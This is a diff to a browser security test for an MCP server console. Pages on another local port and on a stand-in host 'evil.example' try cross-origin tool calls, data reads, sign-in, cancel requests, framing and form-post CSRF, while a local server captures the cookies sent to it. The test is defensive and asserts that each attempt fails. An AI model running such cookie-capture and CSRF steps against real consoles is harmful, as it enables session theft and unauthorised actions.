@@ -1,36 +1,25 @@
-// Another site, on this machine and elsewhere, while the console is open in the same browser.
+// Another port of this machine, and another site, while the console is open in the same browser.
 import assert from "node:assert/strict";
 import { createServer } from "node:http";
-import { launch, open, waitForText } from "./driver.mjs";
+import { click, launch, open, visit, waitForText } from "./driver.mjs";
 
 const { LINK } = process.env;
 const { origin } = new URL(LINK);
-const browser = await launch();
+const browser = await launch(["--host-resolver-rules=MAP evil.example 127.0.0.1"]);
 /** Cookies that a server on another port of this host gets. */
 const stolen = [];
 const other = createServer((request, response) => {
-  stolen.push(request.headers.cookie ?? "");
+  if (request.url === "/") stolen.push(request.headers.cookie ?? "");
   response.setHeader("Content-Type", "text/html");
   response.end("<!doctype html><title>Another site</title><body></body>");
 });
 await new Promise((done) => other.listen(0, "127.0.0.1", done));
-try {
-  const page = await open(browser, LINK);
-  await waitForText(page, "math/add", ".side");
-
-  // The link again, in another browser: a code opens one session.
-  const second = await browser.createBrowserContext();
-  const again = await open(second, LINK);
-  await waitForText(again, "this link was used already");
-  await second.close();
-
-  // A page on another port of the same host is the same site, so it sends the cookie.
+/** Everything that a page of another origin may try, and its outcome. */
+async function attack(url, witness) {
   const evil = await browser.newPage();
-  await evil.goto(`http://127.0.0.1:${other.address().port}/`);
-  const cookie = stolen.find((cookies) => cookies.includes("mcpd_console_"));
-  assert.ok(cookie, "a cookie is for a host, not for a port");
+  await evil.goto(url);
   const call = { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "count", arguments: {}, _meta: { "io.modelcontextprotocol/protocolVersion": "2026-07-28", "io.modelcontextprotocol/clientCapabilities": {} } } };
-  const outcomes = await evil.evaluate(async (origin, body) => {
+  const outcomes = await evil.evaluate(async (origin, body, witness) => {
     const outcomes = {};
     const attempt = async (name, url, options) => {
       try {
@@ -40,12 +29,15 @@ try {
         outcomes[name] = "blocked";
       }
     };
+    if (witness) await fetch(witness, { mode: "no-cors", credentials: "include" });
     const headers = { "Content-Type": "application/json", Accept: "application/json, text/event-stream", "MCP-Protocol-Version": "2026-07-28", "Mcp-Method": "tools/call", "Mcp-Name": "count", "Mcpd-Console": "x" };
     await attempt("call", "/mcp", { method: "POST", headers, body });
     await attempt("simple call", "/mcp", { method: "POST", mode: "no-cors", body });
     await attempt("data", "/console/api/about", { headers: { "Mcpd-Console": "x" } });
     await attempt("simple data", "/console/api/about", { mode: "no-cors" });
     await attempt("sign-in", "/console/session", { method: "POST", mode: "no-cors", body: "{}" });
+    await attempt("cancel", "/console/api/cancel?run=1", { method: "POST", headers: { "Mcpd-Console": "x" } });
+    await attempt("simple cancel", "/console/api/cancel?run=1", { method: "POST", mode: "no-cors" });
     const frame = document.createElement("iframe");
     frame.src = `${origin}/console`;
     document.body.append(frame);
@@ -63,18 +55,50 @@ try {
       socket.onerror = () => done("blocked");
     });
     return outcomes;
-  }, origin, JSON.stringify(call));
+  }, origin, JSON.stringify(call), witness);
   outcomes.frame = evil.frames()[1].url();
-  const sent = evil.waitForNavigation({ timeout: 20_000 });
-  await evil.evaluate((action) => {
-    const form = document.createElement("form");
-    Object.assign(form, { method: "post", action });
-    document.body.append(form);
-    form.submit();
-  }, `${origin}/mcp`);
-  await sent;
-  outcomes.form = await evil.evaluate(() => document.body.innerText);
-  console.log(JSON.stringify(outcomes, null, 2));
+  for (const path of ["/mcp", "/console/session", "/console/api/cancel?run=1"]) {
+    await evil.goto(url);
+    const sent = evil.waitForNavigation({ timeout: 20_000 });
+    await evil.evaluate((action) => {
+      const form = document.createElement("form");
+      Object.assign(form, { method: "post", action });
+      document.body.append(form);
+      form.submit();
+    }, origin + path);
+    await sent;
+    outcomes[`form to ${path}`] = await evil.evaluate(() => document.body.innerText);
+  }
+  await evil.close();
+  return outcomes;
+}
+
+try {
+  const page = await open(browser, LINK);
+  await waitForText(page, "math/add", ".side");
+
+  // The link again, in another browser: a code opens one session.
+  const second = await browser.createBrowserContext();
+  const again = await open(second, LINK);
+  await waitForText(again, "this link was used already");
+  await second.close();
+
+  // A call that runs, and must go on.
+  await visit(page, "#/tools/slow");
+  await click(page, "button", "Run");
+  await waitForText(page, "waiting", "pre.log");
+
+  // A page on another port of the same host is of the same site, so it sends the cookie; a page
+  // with another name does not.
+  const { port } = other.address();
+  const attacks = { "other port": await attack(`http://127.0.0.1:${port}/`) };
+  const cookie = stolen.find((cookies) => cookies.includes("mcpd_console_"));
+  assert.ok(cookie, "a cookie is for a host, not for a port");
+  stolen.length = 0;
+  attacks["other site"] = await attack(`http://evil.example:${port}/`, `http://127.0.0.1:${port}/`);
+  assert.ok(stolen.length >= 2, "the page was read, and fetched something");
+  assert.deepEqual(stolen.filter(Boolean), [], "no cookie goes to another site");
+  console.log(JSON.stringify(attacks, null, 2));
 
   // What the other server got is of no use to it: the cookie alone opens nothing.
   for (const headers of [{ Cookie: cookie }, { Cookie: cookie, "Mcpd-Console": "x" }, { Cookie: cookie, "Mcpd-Console": "" }]) {
@@ -84,7 +108,8 @@ try {
     }
   }
 
-  // The page itself is as before.
+  // The page is as before, and its call goes on.
+  assert.ok(await page.$("p.state.running"), "nothing was cancelled");
   await page.reload();
   await waitForText(page, "math/add", ".side");
 } finally {
